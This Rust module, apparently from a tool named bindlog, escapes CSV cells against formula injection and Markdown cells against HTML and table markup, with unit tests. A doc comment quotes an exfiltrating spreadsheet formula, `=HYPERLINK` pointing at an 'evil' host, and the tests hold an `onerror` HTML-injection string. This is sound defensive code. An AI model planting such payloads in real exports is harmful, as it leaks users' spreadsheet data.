//! Escaping for the files bindlog writes that other programs open: CSV cells a spreadsheet
//! would run as a formula, and Markdown cells a renderer would read as HTML or as table syntax.
//!
//! Names come from the snapshot, which anyone who can create a user or a group writes. A
//! username such as `=HYPERLINK("http://evil/?"&A1)` must reach a spreadsheet as text.

use std::borrow::Cow;
use std::sync::atomic::{AtomicBool, Ordering};

/// Set by `--raw-csv`: CSV cells are written byte for byte, for pipelines that want them.
static RAW_CSV: AtomicBool = AtomicBool::new(false);

/// Writes CSV cells as they are from now on (`--raw-csv`), or neutralised (the default).
pub fn set_raw_csv(raw: bool) {
    RAW_CSV.store(raw, Ordering::Relaxed);
}

/// A CSV cell a spreadsheet reads as text: one that starts with `=`, `+`, `-`, `@`, a tab or a
/// carriage return gets a leading `'`, as OWASP recommends for CSV injection, unless it is a
/// plain number (`-3`) or `--raw-csv` was given.
pub fn csv_cell(s: &str) -> Cow<'_, str> {
    let risky = s.starts_with(['=', '+', '-', '@', '\t', '\r']);
    if !risky || RAW_CSV.load(Ordering::Relaxed) || s.parse::<f64>().is_ok() {
        Cow::Borrowed(s)
    } else {
        Cow::Owned(format!("'{s}"))
    }
}

/// A Markdown table cell or inline text: HTML's special characters as entities, Markdown's
/// table and emphasis syntax backslash-escaped, line breaks as spaces.
pub fn markdown_cell(s: &str) -> String {
    let mut out = String::with_capacity(s.len());
    for c in s.chars() {
        match c {
            '&' => out.push_str("&amp;"),
            '<' => out.push_str("&lt;"),
            '>' => out.push_str("&gt;"),
            '\n' | '\r' => out.push(' '),
            '|' | '\\' | '`' | '*' | '_' | '[' | ']' => {
                out.push('\\');
                out.push(c);
            }
            c => out.push(c),
        }
    }
    out
}

/// Inline code holding `text` literally: line breaks as spaces, delimited by more backticks than
/// any run inside it (and padded where it starts or ends with one), so nothing in it is markup.
pub fn markdown_code(text: &str) -> String {
    let text = text.replace(['\n', '\r'], " ");
    let ticks = "`".repeat(longest_run(&text) + 1);
    if text.starts_with('`') || text.ends_with('`') {
        format!("{ticks} {text} {ticks}")
    } else {
        format!("{ticks}{text}{ticks}")
    }
}

fn longest_run(text: &str) -> usize {
    let mut longest = 0;
    let mut run = 0;
    for c in text.chars() {
        run = if c == '`' { run + 1 } else { 0 };
        longest = longest.max(run);
    }
    longest
}

/// A code fence longer than any run of backticks in `text`, so the text cannot close it.
pub fn fence_for(text: &str) -> String {
    "`".repeat((longest_run(text) + 1).max(3))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formulas_are_neutralised_numbers_are_not() {
        assert_eq!(csv_cell("=1+1"), "'=1+1");
        assert_eq!(csv_cell("+x"), "'+x");
        assert_eq!(csv_cell("@SUM(A1)"), "'@SUM(A1)");
        assert_eq!(csv_cell("\tx"), "'\tx");
        assert_eq!(csv_cell("-x"), "'-x");
        assert_eq!(csv_cell("-3"), "-3");
        assert_eq!(csv_cell("ada"), "ada");
    }

    #[test]
    fn markdown_cells_hold_no_markup() {
        assert_eq!(
            markdown_cell("<img onerror=x>|a\nb*"),
            "&lt;img onerror=x&gt;\\|a b\\*"
        );
        assert_eq!(fence_for("a ```` b"), "`````");
        assert_eq!(fence_for("plain"), "```");
        assert_eq!(markdown_code("a`b\nc"), "``a`b c``");
        assert_eq!(markdown_code("<b>"), "`<b>`");
        assert_eq!(markdown_code("`x"), "`` `x ``");
    }
}
